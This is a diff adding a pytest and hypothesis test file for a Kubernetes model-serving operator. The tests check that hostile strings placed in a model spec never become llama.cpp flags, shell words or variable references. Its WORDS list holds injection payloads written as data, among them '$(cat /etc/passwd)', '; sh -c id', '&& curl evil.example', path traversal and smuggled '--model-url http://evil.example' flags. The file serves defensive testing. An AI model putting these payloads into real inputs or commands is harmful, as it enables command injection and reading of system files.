@@ -1,0 +1,323 @@
+# SPDX-License-Identifier: Apache-2.0
+"""No string of a CompactModel becomes a flag of a server, a word of a shell or a reference to a variable.
+
+Every text of a spec that uses all fields is replaced by hostile ones; what the API accepts is planned.
+"""
+
+import copy
+import json
+from collections.abc import Iterator, Mapping
+from dataclasses import replace
+from typing import Any, Final
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
+
+from nimblet.api.compactmodel import CompactModel, CompactModelSpec
+from nimblet.plan.facts import ModelFacts, TextFacts, TrustTextFacts
+from nimblet.plan.integrity import text_key
+from nimblet_loader.cli import _parser
+from nimblet_loader.contract import parse_source
+from tests.builders import (
+    DIGEST,
+    MINILM,
+    SMOLLM2,
+    SMOLLM2_URI,
+    a_model,
+    a_secret,
+    artifact_text,
+    base_facts,
+    plan_of,
+    stored,
+)
+from tests.cached import CLASSES, a_claim, filled
+
+Spec = dict[str, Any]
+Place = tuple[str | int, ...]
+
+REF: Final = {"name": "texts", "key": "text"}
+COMMON: Final[Spec] = {
+    "task": "Chat",
+    "servedModelName": "team/assistant",
+    "runtime": {"name": "LlamaCpp", "contextLength": 2048, "kvCacheType": "q8_0", "chatTemplate": REF},
+    "hardware": {"profile": "cpu"},
+    "resources": {"cpu": "1", "memory": "1Gi"},
+    "scheduling": {
+        "nodeSelector": {"pool": "models"},
+        "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "models", "effect": "NoSchedule"}],
+        "spread": [{"topologyKey": "kubernetes.io/hostname"}],
+        "priorityClassName": "high",
+        "podLabels": {"team": "blue"},
+        "podAnnotations": {"note": "text"},
+    },
+    "access": {"namespaces": ["shop"], "apiKeysSecretRef": {"name": "team-keys"}},
+    "rollout": {"strategy": "Recreate"},
+}
+TRUST: Final[tuple[Spec, ...]] = (
+    {"key": {"publicKeyRef": REF}},
+    {"certificate": {"rootsRef": REF, "identity": "builds@models.example"}},
+    {"sigstore": {"trustRootRef": REF, "identity": "a@b.example", "issuer": "https://issuer.example"}},
+)
+SPECS: Final[tuple[Spec, ...]] = (
+    {
+        **COMMON,
+        "source": {
+            "uri": SMOLLM2_URI,
+            "revision": "main",
+            "quantization": "Q4_1",
+            "credentialsSecretRef": {"name": "hub"},
+        },
+        "integrity": {"sha256": {"m.gguf": DIGEST}, "signature": {"bundleRef": REF, **TRUST[0]}},
+        "cache": {
+            "storageClassName": "shared",
+            "size": "1Gi",
+            "accessMode": "ReadWriteMany",
+            "retention": "Retain",
+        },
+    },
+    {
+        **COMMON,
+        "source": {"uri": "s3://bucket/a/b", "files": ["*.gguf"], "roleARN": "arn:aws:iam::1:role/r"},
+        "integrity": {"manifestRef": REF, "signature": {"bundleRef": REF, **TRUST[1]}},
+    },
+    {
+        **COMMON,
+        "task": "Embedding",
+        "runtime": {"name": "Auto", "chatTemplate": REF},
+        "source": {"uri": "https://h.example/a/m.gguf"},
+        "integrity": {"signature": {"bundleRef": REF, **TRUST[2]}},
+    },
+)
+HEADERS: Final[Mapping[str, Mapping[str, object]]] = {"Chat": SMOLLM2, "Embedding": MINILM}
+WORDS: Final = (
+    "--lora",
+    "--lora=/evil.gguf",
+    "-m",
+    "--rpc 10.0.0.1:50052",
+    "--model-url http://evil.example",
+    "--trust-remote-code",
+    "--api-key x",
+    "-",
+    "--",
+    "@/etc/passwd",
+    "x --no-webui",
+    "x\n--tools all",
+    "x\x00--tools",
+    "$(POD_UID)",
+    "$$(POD_UID)",
+    "$(cat /etc/passwd)",
+    "`id`",
+    "; sh -c id",
+    "| sh",
+    "&& curl evil.example",
+    "'\"",
+    '"}',
+    "\\",
+    "../../etc/passwd",
+    "/etc/passwd",
+    "~root",
+    "*",
+    "é\u202e",
+)
+FLAGS: Final[Mapping[str, int]] = {
+    **dict.fromkeys(
+        [
+            "--model",
+            "--alias",
+            "--host",
+            "--port",
+            "--api-key-file",
+            "--ctx-size",
+            "--parallel",
+            "--cache-type-k",
+            "--cache-type-v",
+            "--flash-attn",
+            "--batch-size",
+            "--ubatch-size",
+            "--cache-ram",
+            "--ctx-checkpoints",
+            "--fit",
+            "--load-mode",
+            "--threads",
+            "--threads-batch",
+            "--chat-template-file",
+            "--pooling",
+            "--override-kv",
+            "--embd-normalize",
+        ],
+        1,
+    ),
+    **dict.fromkeys(
+        [
+            "--no-kv-unified",
+            "--metrics",
+            "--no-slots",
+            "--no-ui",
+            "--offline",
+            "--jinja",
+            "--rerank",
+            "--embeddings",
+        ],
+        0,
+    ),
+}
+"""Every flag that the operator ever gives llama.cpp, and how many values follow it: none of them loads code."""
+
+
+def places(value: object, at: Place = ()) -> Iterator[Place]:
+    """Yield where texts stand in a spec: values, and keys of maps that users name."""
+    if isinstance(value, str):
+        yield at
+    elif isinstance(value, Mapping):
+        for key, item in value.items():
+            yield from places(item, (*at, key))
+    elif isinstance(value, list):
+        for index, item in enumerate(value):
+            yield from places(item, (*at, index))
+
+
+MAPS: Final = {"sha256", "nodeSelector", "podLabels", "podAnnotations"}
+PLACES: Final = [(number, place) for number, spec in enumerate(SPECS) for place in places(spec)]
+HOSTILE: Final = st.sampled_from(WORDS) | st.text(max_size=30)
+
+
+def names_keys(place: Place) -> bool:
+    """Tell whether users name the keys of the map that holds a text."""
+    return len(place) > 1 and place[-2] in MAPS
+
+
+def replaced(spec: Spec, place: Place, text: str, *, key: bool) -> Spec:
+    """Return the spec with another text at a place: the value, or the key where users name keys."""
+    changed = copy.deepcopy(spec)
+    holder: Any = changed
+    for step in place[:-1]:
+        holder = holder[step]
+    if key and names_keys(place):
+        holder[text] = holder.pop(place[-1])
+    else:
+        holder[place[-1]] = text
+    return changed
+
+
+def facts_for(model: CompactModel) -> ModelFacts:
+    """Return facts where everything that the spec names is there and its source resolved."""
+    secret = a_secret(keys=("token", "accessKeyId", "secretAccessKey", "api-keys"))
+    template = model.spec.runtime.chat_template
+    integrity = model.spec.integrity
+    sums = f"{DIGEST}  m.gguf\n"
+    trust = {
+        text_key(ref): TrustTextFacts(usable=True, text=sums)
+        for ref in (integrity.references if integrity else ())
+    }
+    found = base_facts(
+        model,
+        artifacts=(stored(model, artifact_text(header=HEADERS.get(model.spec.task, SMOLLM2)), trust=trust),),
+        trust=trust,
+        secret=secret,
+        own_keys=replace(secret, name="team-keys"),
+        chat_template=TextFacts(name=template.name, keys=(template.key,), content_hash="h") if template else None,
+    )
+    if model.spec.cache is None:
+        return found
+    fill = filled()
+    return replace(found, claim=a_claim(), storage_classes=CLASSES, fills=(fill,))
+
+
+def containers(model: CompactModel) -> list[dict[str, Any]]:
+    """Return every container of the model's Jobs and Deployment: resolving, and running."""
+    facts = facts_for(model)
+    found = []
+    for known in (facts, replace(facts, artifacts=())):
+        for item in plan_of(model, known).children:
+            if item["kind"] in ("Job", "Deployment"):
+                pod: Any = item["spec"]
+                pod = pod["template"]["spec"]
+                found += [*pod["containers"], *pod.get("initContainers", ())]
+    return found
+
+
+def check_server(container: Mapping[str, Any]) -> None:
+    """Read the argv as llama.cpp does: flags that are ours, each with its value."""
+    assert "env" not in container  # llama.cpp reads LLAMA_ARG_* too
+    rest = list(container["args"])
+    while rest:
+        flag = rest.pop(0)
+        assert flag in FLAGS
+        for _ in range(FLAGS[flag]):
+            value = rest.pop(0)
+            assert value == "-1" or not value.startswith("-")
+            assert "$(" not in value
+
+
+def check_loader(container: Mapping[str, Any], model: CompactModel) -> None:
+    """Read argv and environment as the loader does: texts of the spec are in the source and nowhere else."""
+    _parser().parse_args(container["args"])
+    assert {item["name"] for item in container["env"]} <= {"NIMBLET_SOURCE", "POD_UID"}
+    text = next(item["value"] for item in container["env"] if item["name"] == "NIMBLET_SOURCE")
+    assert "$" not in text
+    assert parse_source(text).uri == model.spec.source.uri
+    assert json.loads(text)["files"] == list(model.spec.source.files or ())
+
+
+def check(model: CompactModel) -> int:
+    found = containers(model)
+    for container in found:
+        assert "command" not in container
+        assert not {"sh", "bash", "/bin/sh", "-c"} & set(container["args"])
+        if container["name"] == "server":
+            check_server(container)
+        else:
+            check_loader(container, model)
+    return len(found)
+
+
+@pytest.mark.parametrize("spec", SPECS)
+def test_the_specs_themselves_are_planned(spec: Spec) -> None:
+    names = [container["name"] for container in containers(a_model(**spec))]
+    assert "resolver" in names
+    assert "server" in names
+    assert check(a_model(**spec)) >= 2
+
+
+@settings(max_examples=600, deadline=None)
+@given(
+    where=st.sampled_from(PLACES),
+    text=HOSTILE,
+    joined=st.sampled_from(["alone", "after", "before"]),
+    key=st.booleans(),
+)
+def test_no_text_becomes_a_flag_or_a_word_of_a_shell(
+    where: tuple[int, Place],
+    text: str,
+    joined: str,
+    key: bool,
+) -> None:
+    number, place = where
+    before: Any = SPECS[number]
+    for step in place:
+        before = before[step]
+    before = str(place[-1]) if key and names_keys(place) else before
+    whole = {"alone": text, "after": before + text, "before": text + before}[joined]
+    try:
+        spec = CompactModelSpec.model_validate(replaced(SPECS[number], place, whole, key=key))
+    except ValidationError:
+        return
+    check(a_model().model_copy(update={"spec": spec}))
+
+
+@pytest.mark.parametrize("word", WORDS)
+def test_no_hostile_word_alone_is_accepted_where_it_becomes_an_argument(word: str) -> None:
+    for change in ({"servedModelName": word}, {"runtime": {"kvCacheType": word}}, {"runtime": {"name": word}}):
+        with pytest.raises(ValidationError):
+            CompactModelSpec.model_validate({"source": {"uri": SMOLLM2_URI}, **change})
+
+
+@pytest.mark.parametrize(
+    "field", ["extraArgs", "args", "command", "env", "trustRemoteCode", "podTemplate", "image"]
+)
+def test_what_would_load_code_can_not_be_said(field: str) -> None:
+    for change in ({field: ["--x"]}, {"runtime": {field: ["--x"]}}, {"source": {"uri": SMOLLM2_URI, field: True}}):
+        with pytest.raises(ValidationError, match="Extra inputs"):
+            CompactModelSpec.model_validate({"source": {"uri": SMOLLM2_URI}, **change})
